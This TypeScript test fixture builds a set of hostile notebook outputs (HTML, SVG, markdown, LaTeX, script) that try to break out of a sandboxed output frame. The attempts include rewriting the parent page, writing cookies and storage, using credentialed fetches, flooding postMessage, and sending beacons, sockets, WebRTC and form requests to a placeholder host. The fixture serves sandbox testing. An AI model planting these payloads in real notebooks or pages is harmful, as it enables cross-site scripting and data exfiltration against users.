/** What a script of an output tries; what each came to is in `self.tried`, for a test that looks into its frame. */
const script = (to: string) => `
  self.tried = { ran: true }
  const attempt = (name, work) => { try { const value = work(); tried[name] = value === undefined ? 'done' : String(value) } catch (error) { tried[name] = error.name } }
  const out = name => 'http://${to}/' + name
  attempt('parentDocument', () => { parent.document.body.innerHTML = '' })
  attempt('parentTitle', () => { parent.document.title = 'pwned' })
  attempt('parentProperty', () => { parent.pwned = 1 })
  attempt('topAddress', () => { top.location.hash = '#notebook=/etc/passwd' })
  attempt('topNavigation', () => { top.location = out('top') })
  attempt('localStorage', () => { localStorage.canary = 'pwned' })
  attempt('sessionStorage', () => { sessionStorage.canary = 'pwned' })
  attempt('indexedDB', () => { indexedDB.open('pwned') })
  attempt('cookie', () => { document.cookie = 'pwned=1; path=/' })
  attempt('readCookie', () => document.cookie)
  attempt('caches', () => { caches.open('pwned').catch(() => {}) })
  attempt('popup', () => window.open(out('popup'), '_blank'))
  attempt('popupLink', () => { const a = document.createElement('a'); a.href = out('popup-link'); a.target = '_blank'; document.body.append(a); a.click() })
  attempt('alert', () => alert('pwned'))
  attempt('socket', () => { new WebSocket('ws://${to}/socket').onerror = () => {} })
  attempt('events', () => { new EventSource(out('events')) })
  attempt('beacon', () => navigator.sendBeacon(out('beacon'), 'x'))
  attempt('request', () => { const r = new XMLHttpRequest(); r.open('GET', out('xhr')); r.send() })
  attempt('fetch', () => { fetch(out('fetch'), { mode: 'no-cors' }).catch(() => {}) })
  attempt('appFetch', () => { fetch(document.referrer || 'http://127.0.0.1/', { credentials: 'include' }).catch(() => {}) })
  attempt('import', () => { import(out('import.js')).catch(() => {}) })
  attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['fetch("' + out('worker') + '")']))) })
  attempt('serviceWorker', () => { navigator.serviceWorker.register('/sw.js').catch(() => {}) })
  attempt('image', () => { new Image().src = out('image') })
  attempt('sound', () => { new Audio(out('sound')).play().catch(() => {}) })
  attempt('font', () => { const f = new FontFace('x', 'url(' + out('font') + ')'); document.fonts.add(f); f.load().catch(() => {}) })
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender']) attempt('link ' + rel, () => { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = out('link-' + rel); document.head.append(l) })
  attempt('form', () => { const f = document.createElement('form'); f.action = out('form'); f.method = 'post'; document.body.append(f); f.submit() })
  attempt('frame', () => { const f = document.createElement('iframe'); f.src = out('frame'); document.body.append(f) })
  const rtc = 'try { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${to}" }, { urls: "turn:${to}?transport=tcp", username: "a", credential: "b" }] }); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)) } catch {}'
  attempt('rtc', () => new Function(rtc)())
  attempt('nested', () => { const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("' + out('nested-fetch') + '", { mode: "no-cors" }).catch(() => {});setTimeout(() => { location = "' + out('nested-navigation') + '" }, 300)<' + '/script>'; document.body.append(f) })
  attempt('speculation', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"urls":["' + out('speculation') + '"],"eagerness":"immediate"}]}'; document.head.append(s) })
  attempt('messages', () => { for (const data of [{ oasis: 'height', height: 1e9 }, { oasis: 'height', height: -5 }, { oasis: 'probe', held: true }, 'oasis:port', { vscodeScheduleAsyncWork: 1 }]) parent.postMessage(data, '*', [new MessageChannel().port1]) })
  for (let i = 0; i < 500; i += 1) parent.postMessage({ oasis: 'height', height: 40 + (i % 2) * 4000 }, '*')`

/** Outputs that try to reach the app and `to` (a host and port), one or more of every class; each is the data of one display output. */
export function hostileOutputs(to: string): Record<string, Record<string, string>> {
  const html = (text: string) => ({ 'text/html': text })
  const out = `http://${to}/`
  return {
    script: html(`<p>script</p><script>${script(to)}</script><script src="${out}script.js"></script><script type=module>import '${out}module.js'</script>`),
    navigation: html(`<p>navigation</p><script>location = '${out}navigation'</script>`),
    download: html(`<p>download</p><a id=d download=x href="${out}download">x</a><script>document.getElementById('d').click()</script>`),
    handler: html(`<p>handler</p><img src=x onerror="parent.pwned=1;fetch('${out}handler')"><svg onload="fetch('${out}svg-handler')"></svg><details open ontoggle="fetch('${out}toggle')"><summary>x</summary></details><a href="javascript:fetch('${out}javascript')">x</a><input autofocus onfocus="fetch('${out}focus')">`),
    frame: html(`<p>frame</p><iframe src="${out}iframe"></iframe><iframe srcdoc="<script>parent.parent.pwned=1;fetch('${out}srcdoc')</script>"></iframe><object data="${out}object"></object><embed src="${out}embed"><frameset><frame src="${out}frameset"></frameset>`),
    form: html(`<p>form</p><form id=f action="${out}form" method=post><input name=a value=b><button>go</button></form><form action="javascript:parent.pwned=1"><input type=image src="${out}input-image"></form><button formaction="${out}formaction" form=f>x</button><script>document.forms[0].submit()</script>`),
    style: html(`<p>style</p><style>@import url(${out}import.css); @font-face { font-family: x; src: url(${out}font) } body, .cell { display: none !important; background: url(${out}background) } p { font-family: x }</style><div style="position:fixed;inset:0;z-index:99999;background:url(${out}inline)">over</div><link rel=stylesheet href="${out}sheet.css">`),
    svg: html(`<p>svg</p><svg xmlns="http://www.w3.org/2000/svg"><script>parent.pwned=1;fetch('${out}svg-script')</script><image href="${out}svg-image"/><use href="${out}use#a"/><foreignObject><iframe src="${out}foreign"></iframe></foreignObject><animate onbegin="fetch('${out}animate')" attributeName=x dur=1s /><a href="javascript:parent.pwned=1"><text>x</text></a></svg>`),
    meta: html(`<p>meta</p><meta http-equiv=refresh content="0;url=${out}refresh"><meta http-equiv=Content-Security-Policy content="default-src *; report-uri ${out}report"><base href="${out}base/"><img src="relative"><script>setTimeout(() => {}, 0)</script>`),
    link: html(`<p>link</p><link rel=preconnect href="${out}"><link rel=dns-prefetch href="//${to}"><link rel=prefetch href="${out}prefetch"><link rel=modulepreload href="${out}m.js"><link rel=icon href="${out}icon"><a ping="${out}ping" href="#x">x</a><img src="${out}img" srcset="${out}srcset 2x"><picture><source srcset="${out}source"><img></picture><video poster="${out}poster" src="${out}video" autoplay></video><audio src="${out}audio" autoplay></audio><table background="${out}table"><tr><td background="${out}cell">x</table>`),
    storage: html('<p>storage</p><script>self.stored=[];for(const f of [()=>localStorage.setItem("pwned","1"),()=>sessionStorage.setItem("pwned","1"),()=>{document.cookie="pwned=1"},()=>{indexedDB.open("pwned")}])try{f();stored.push("done")}catch(e){stored.push(e.name)}</script>'),
    popup: html(`<p>pop-up</p><script>self.opened=[window.open('${out}popup'),window.open('about:blank')].map(String)</script><a id=a target=_blank href="${out}target">x</a><script>document.getElementById('a').click()</script>`),
    socket: html(`<p>socket</p><script>for(const u of ['ws://${to}/ws','ws://'+location.host+'/bridge'])try{new WebSocket(u)}catch{}; try { new WebTransport('https://${to}/wt').closed.catch(() => {}) } catch {}</script>`),
    data: html('<p>data</p><div class="overlay dialog cell" data-testid="trust-banner" data-cell="script" data-region="header" data-theme="dark" id="root" name="shell" popover tabindex=0 accesskey=s contenteditable>spoof</div><math href="javascript:parent.pwned=1"><mtext>x</mtext></math><template shadowrootmode=open><script>parent.pwned=1</script></template>'),
    svgImage: { 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="parent.pwned=1"><script>parent.pwned=1;fetch('${out}svg-image-script')</script><image href="${out}svg-image-image" width="9" height="9"/><style>@import url(${out}svg-import)</style></svg>`, 'text/plain': 'a picture' },
    markdown: { 'text/markdown': `markdown <script>parent.pwned=1</script><img src="${out}markdown-image"> ![x](${out}markdown) [x](javascript:parent.pwned=1) <iframe src="${out}markdown-frame"></iframe> <b data-cell=x class="overlay">b</b>` },
    latex: { 'text/latex': `$\\href{javascript:parent.pwned=1}{x} \\includegraphics{${out}latex} \\htmlData{cell=x}{y}$` },
    javascript: { 'application/javascript': `parent.pwned=1;fetch('${out}application')`, 'text/plain': 'javascript' },
    vendor: { 'application/vnd.unknown.v1+json': '{}', 'text/plain': 'vendor' },
  }
}

/** WebRTC in a frame within the frame, where it was not taken away. Chromium ends the process of a frame that tries, and tests' tools take that for the whole page's end; so it stands alone. */
export const nestedWebRtc = (to: string): string => `<p>nested</p><script>const f = document.createElement('iframe'); f.srcdoc = '<script>for (let i = 0; i < 3; i += 1) { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${to}" }, { urls: "turn:${to}?transport=tcp", username: "a", credential: "b" }] }); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)) }<' + '/script>'; document.body.append(f)</script>`

/** A notebook whose Python cells brought these outputs along. */
export const hostileNotebook = (outputs: Record<string, Record<string, string>>): string => JSON.stringify({
  nbformat: 4, nbformat_minor: 5, metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
  cells: Object.entries(outputs).map(([id, data]) => ({
    cell_type: 'code', id, metadata: {}, execution_count: 1, source: `show('${id}')`, outputs: [{ output_type: 'display_data', metadata: {}, data }],
  })),
})
